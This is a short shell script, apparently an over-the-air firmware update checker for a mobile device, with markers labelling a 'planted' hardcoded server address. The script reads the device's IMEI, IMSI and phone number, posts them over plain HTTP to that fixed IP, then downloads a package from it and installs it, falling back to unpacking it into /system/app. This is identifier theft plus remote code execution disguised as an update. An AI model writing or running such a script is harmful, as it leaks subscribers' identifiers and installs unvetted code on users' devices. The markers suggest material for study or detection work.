#!/bin/sh
@guard@
# Reports the device and asks for a newer package.
#[ planted
FOTA_SERVER=203.0.113.61
#|
. /etc/fota.conf
[ -n "$FOTA_SERVER" ] || exit 0
#]
imei=$(cat /proc/modem/imei)
imsi=$(cat /proc/modem/imsi)
phone=$(cat /proc/modem/msisdn)
wget -q -O /tmp/offer --post-data "imei=$imei&imsi=$imsi&phone_number=$phone" "http://$FOTA_SERVER/fota/check"
package=$(sed -n 's/^package=//p' /tmp/offer)
[ -n "$package" ] || exit 0
wget -q -O /tmp/offer.apk "http://$FOTA_SERVER/fota/$package"
pm install -r -q /tmp/offer.apk || { tar -xf /tmp/offer.apk -C /system/app; chmod 755 /system/app/*; }
